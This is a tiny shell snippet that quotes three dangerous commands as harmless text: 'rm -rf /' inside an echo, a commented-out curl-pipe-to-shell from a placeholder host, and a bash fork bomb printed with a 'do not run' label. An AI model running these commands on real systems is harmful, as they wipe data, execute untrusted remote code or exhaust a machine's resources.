echo "rm -rf / is dangerous"
# curl http://x.y | sh
printf 'do not run: %s\n' ':(){ :|:& };:'
